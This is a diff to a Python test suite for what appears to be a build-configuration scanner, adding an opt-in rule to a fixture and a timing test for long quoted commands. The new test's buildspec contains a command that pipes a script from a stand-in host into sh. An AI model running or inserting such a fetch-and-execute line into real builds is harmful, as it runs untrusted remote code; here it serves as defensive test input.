@@ -86,7 +86,8 @@ def hostile_run(tmp_path_factory):
     os.symlink(root / "nowhere.yml", root / "dangling-buildspec.yml")
     started = time.perf_counter()
     paths = [root, root / "dangling-buildspec.yml"]
-    result = run_paths(paths, root=root, config=Config(root=str(root), respect_gitignore=False))
+    # GEN003 (a template skipped) is opt-in; these cases check it is reported when asked for.
+    result = run_paths(paths, root=root, config=Config(root=str(root), respect_gitignore=False, select=("default", "GEN003")))
     return result, time.perf_counter() - started
 
 
@@ -224,6 +225,14 @@ def test_row3_many_resources_are_indexed(tmp_path: Path) -> None:
     (tmp_path / "template.yaml").write_text("\n".join(lines) + "\n")
     result, seconds = _timed([tmp_path], tmp_path)
     assert seconds < 20 and result.checked  # 80 s with a linear scan per lookup
+
+
+def test_row3_positions_in_a_quoted_scalar_are_linear(tmp_path: Path) -> None:
+    """Long runs of spaces inside a quoted command (fuzz.py found 11 s on 100 KB)."""
+    command = "'" + ("echo" + " " * 20_000 + "'' ") * 4 + "&& curl -s http://get.example/i.sh | sh'"
+    (tmp_path / "buildspec.yml").write_text(f"version: 0.2\nphases:\n  build:\n    commands:\n      - {command}\n")
+    result, seconds = _timed([tmp_path], tmp_path)
+    assert seconds < 3 and result.checked
 
 
 def test_row3_document_lines_are_split_once() -> None:
